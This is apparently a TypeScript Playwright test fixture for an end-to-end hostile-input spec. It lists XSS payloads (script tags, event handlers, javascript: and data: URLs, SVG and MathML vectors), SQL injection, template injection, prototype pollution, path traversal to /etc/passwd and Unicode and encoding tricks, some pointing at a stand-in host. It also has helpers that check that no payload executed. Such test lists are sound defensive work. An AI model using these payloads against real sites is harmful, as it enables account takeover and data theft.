/**
 * Hostile input for e2e/hostile-input.spec.ts: markup and script that must stay text, URLs that must
 * never become live links, and characters that trip up encoders, parsers and layout. A payload that
 * runs either opens a dialog (alert, confirm, prompt), logs XSS_SENTINEL, or sets window.__xssFired,
 * so the tests can tell that it ran. Characters that are awkward to see (controls, bidi overrides,
 * zero-width, lone surrogates) are written as escapes.
 */

import type { Page } from '@playwright/test';
import { expect, pageSettled } from './fixtures';

/** What a payload logs or leaves in the page when it runs. */
export const XSS_SENTINEL = 'xss-fired';
/** A host no test request should ever reach. */
export const PAYLOAD_HOST = 'xss.example';

const scriptTags = [
  '<script>alert(1)</script>',
  '<script>alert(document.domain)</script>',
  `<script>console.log("${XSS_SENTINEL}")</script>`,
  '<script>window.__xssFired = true</script>',
  `<SCRIPT SRC=//${PAYLOAD_HOST}/x.js></SCRIPT>`,
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<script/xss src=data:,alert(1)></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type="module">alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
];

const eventHandlers = [
  '<img src=x onerror=alert(1)>',
  `<img src="x" onerror="console.log('${XSS_SENTINEL}')">`,
  '<img src=x onerror="window.__xssFired=true">',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover me</div>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<select autofocus onfocus=confirm(1)>',
  '<textarea autofocus onfocus=prompt(1)>',
  '<iframe onload=alert(1)>',
  '<a href="#" onclick="alert(1)">click</a>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<style onload=alert(1)></style>',
  '<object data=x onerror=alert(1)>',
  '<body/onpageshow=alert(1)>',
  '<x contenteditable onblur=alert(1)>lose focus!',
  '<div id=x popover onbeforetoggle=alert(1)>popover</div>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<img src="x` `<script>alert(1)</script>"` `>',
];

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  'javascript:alert(1)//https://example.com',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  '<a href="javascript:alert(1)">a link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  `//${PAYLOAD_HOST}/x`,
  'https://example.com/"><script>alert(1)</script>',
  'https://example.com/?q=<img src=x onerror=alert(1)>',
  'https://example.com/#"onmouseover="alert(1)',
  "https://example.com/path' onclick='alert(1)",
  'https://example.com/javascript:alert(1)',
  'http://javascript:alert(1)@example.com/',
  'https://exa mple.com/',
  'https://example.com/\u202Egpj.exe',
  'https://xn--80ak6aa92e.com/',
  `https://example.com/${'a'.repeat(2100)}`,
  'HTTPS://EXAMPLE.COM/SHOUTING',
  'https://example.com/ see https://example.org/<b>two</b> links',
];

const svgAndMath = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x" />`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICKME</math>',
];

const otherElements = [
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  `<link rel=stylesheet href="//${PAYLOAD_HOST}/x.css">`,
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  "<style>@import 'javascript:alert(1)';</style>",
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<div style="width: expression(alert(1));">old IE</div>',
];

const encodedAndBroken = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '<<script>script>alert(1)<</script>/script>',
  '<img """><script>alert(1)</script>">',
  '<img src=x onerror=alert(1)//',
  '<a href="x',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<div><p>unclosed <b>tags <i>everywhere',
  '</div></li></ol></section></body></html>',
  '</p><h1>A fake heading</h1><p>',
  '<li class="comment"><article>A forged comment</article></li>',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '\\"; alert(1); //',
  "'; alert(1); //",
  '"},"__proto__":{"polluted":true},"x":{"y":"',
  '\u2028alert(1)\u2029',
  '$@0 $1 $Q2 $undefined $Sreact.element',
  'self.__next_f.push([1,"<script>alert(1)</script>"])',
  '**bold** _em_ [link](javascript:alert(1))',
  '![img](x onerror=alert(1))',
  "' OR '1'='1",
  "Robert'); DROP TABLE comments;--",
  '%s%s%s%n',
  '<%= 7*7 %> #{7*7} ${{7*7}}',
  '../../../../etc/passwd',
];

const unicode = [
  'Ada \u202Eesrever ni\u202C text',
  '\u202Egnp.exe',
  '\u202Dforced LTR\u202C and \u2066isolated\u2069',
  'Ada\u200BLovelace',
  '\u200C\u200D\uFEFF zero-width all round \u200B',
  '<scr\u200Bipt>alert(1)</scr\u200Bipt>',
  '\uFEFFa byte order mark first',
  'Z\u0334\u0321\u031Ba\u0337l\u0338g\u0336o\u0335 text',
  '\u0430dmin (a Cyrillic a)',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\u00A0non-breaking\u00A0spaces\u00A0',
  '\u{1F469}\u{1F3FD}\u200D\u{1F4BB} \u{1F3F3}\uFE0F\u200D\u{1F308}',
  'line\u2028separator and paragraph\u2029separator',
  '\u0085next line and \u0080 C1 controls',
  '\uFFFE\uFFFF noncharacters \u{10FFFF}',
  '\uFFFD replacement character',
];

/** Lone surrogates cannot be encoded as UTF-8: a browser sends U+FFFD in their place. */
const loneSurrogates = ['\uD800', 'a\uDC00b', '\uDBFF\uDBFF twice', 'tail \uDFFF', '<scr\uD800ipt>alert(1)</script>'];

/** Invalid UTF-8, spelled out (as text and percent-escapes); the real bytes are in invalidUtf8Payloads. */
const invalidUtf8AsEscapes = [
  '\\xC0\\xAF overlong slash',
  '\\xED\\xA0\\x80 encoded surrogate',
  '%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE',
  '%ED%A0%80%FF%FE',
  '\xC0\xAF\xFF\xFE (as Latin-1 characters)',
];

const controls = [
  'NUL\u0000byte',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x\u0000onerror=alert(1)>',
  'java\u0000script:alert(1)',
  '\u0007bell \u0008backspace \u001B[31mANSI red\u001B[0m',
  'CR\rLF\nCRLF\r\nend',
  '\t\ttabs\t',
  '\u000B vertical tab and form feed \u000C',
  '   ',
  '\u0000',
];

const sizes = [
  'A'.repeat(5000),
  'B'.repeat(5001),
  'C'.repeat(100),
  '<b>'.repeat(1700),
  `${'word '.repeat(999)}end`,
];

/** Payloads that fit in the local part of an address the form accepts. */
const emailShaped = ["o'reilly", 'x+alert-1', '-_-', "a'b'c", 'javascript.alert', 'xss.example'];

export const xssPayloads: readonly string[] = [
  ...scriptTags,
  ...eventHandlers,
  ...schemes,
  ...svgAndMath,
  ...otherElements,
  ...encodedAndBroken,
  ...unicode,
  ...loneSurrogates,
  ...invalidUtf8AsEscapes,
  ...controls,
  ...sizes,
  ...emailShaped,
];

/** Byte sequences that are not UTF-8 at all, sent as they are in a hand-made request body. */
export const invalidUtf8Payloads: readonly { label: string; bytes: Uint8Array }[] = [
  { label: 'overlong slash C0 AF', bytes: Uint8Array.of(0x61, 0xc0, 0xaf, 0x62) },
  { label: 'UTF-8-encoded surrogate ED A0 80', bytes: Uint8Array.of(0x61, 0xed, 0xa0, 0x80, 0x62) },
  { label: 'FF FE', bytes: Uint8Array.of(0xff, 0xfe, 0x41, 0x42) },
  { label: 'five-byte form F8 88 80 80 80', bytes: Uint8Array.of(0x5a, 0xf8, 0x88, 0x80, 0x80, 0x80, 0x5a) },
  {
    label: 'overlong < and > around script',
    bytes: Uint8Array.of(0xc0, 0xbc, ...new TextEncoder().encode('script'), 0xc0, 0xbe, ...new TextEncoder().encode('alert(1)')),
  },
  { label: 'truncated euro sign', bytes: Uint8Array.of(0x61, 0x62, 0x63, 0xe2, 0x82) },
];

/** Watches a page for any sign that a payload ran: dialogs, the sentinel in the console, requests. */
export function watch(page: Page) {
  const seen = { dialogs: [] as string[], console: [] as string[], requests: [] as string[] };
  page.on('dialog', (dialog) => {
    seen.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (message.text().includes(XSS_SENTINEL) || message.text().includes(PAYLOAD_HOST)) seen.console.push(message.text());
  });
  page.on('pageerror', (error) => {
    if (error.message.includes(XSS_SENTINEL)) seen.console.push(error.message);
  });
  page.on('request', (request) => seen.requests.push(request.url()));
  return seen;
}

/**
 * After the page has settled: no dialog, no sentinel, no request that left the site. Requests are
 * counted as they are made, so there is no waiting for the network to go quiet: Chromium reports a
 * prefetch begun by a page since left as in flight for about 30 seconds (docs/testing.md), and
 * waiting for `networkidle` cost each search test of hostile-input.spec.ts 23 of its 31 seconds.
 */
export async function expectNothingRan(page: Page, seen: ReturnType<typeof watch>) {
  // Handlers such as onerror and onfocus fire a moment after the page has loaded.
  await pageSettled(page);
  expect(seen.dialogs, 'dialogs opened by a payload').toEqual([]);
  expect(seen.console, 'console messages from a payload').toEqual([]);
  expect(await page.evaluate(() => (window as { __xssFired?: unknown }).__xssFired), 'window.__xssFired').toBeUndefined();
  const ours = new URL(page.url()).host;
  const elsewhere = seen.requests.filter((url) => /^https?:/.test(url) && new URL(url).host !== ours);
  expect(elsewhere, 'requests that left the site').toEqual([]);
}
